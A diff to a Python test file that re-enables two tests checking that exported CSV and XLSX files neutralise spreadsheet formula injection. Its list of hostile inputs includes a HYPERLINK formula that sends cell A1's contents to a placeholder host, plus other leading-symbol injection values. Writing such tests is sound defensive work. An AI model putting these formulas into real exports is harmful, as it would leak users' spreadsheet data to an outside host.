@@ -20,7 +20,6 @@ from careboard.safe_cells import RISKY_STARTS, csv_cell, write_table
 from tests.cli_runs import DATA, assert_clean, run_cli
 
 HOSTILE = ['=HYPERLINK("http://x.example/?a"&A1,"click")', "+1", "-2", "@x", "\tA", "\rB", "=1+2"]
-SPEEDS_WRITERS = pytest.mark.xfail(strict=True, reason="validation writers: owned by speed")
 COUNCIL = Path(__file__).parents[1] / "councils" / "demo.toml"
 
 
@@ -134,12 +133,10 @@ def validation_outputs(tmp_path_factory) -> Path:
     return out
 
 
-@SPEEDS_WRITERS
 def test_validation_csv_is_inert(validation_outputs):
     assert_inert_csv((validation_outputs / "e.csv").read_text(encoding="utf-8"), numeric={"row", "line"})
 
 
-@SPEEDS_WRITERS
 def test_validation_xlsx_is_inert(validation_outputs):
     assert_inert_xlsx(validation_outputs / "e.xlsx", {'=HYPERLINK("http://x.example/?a"&A1;"click")', "+1", "-2"})
 
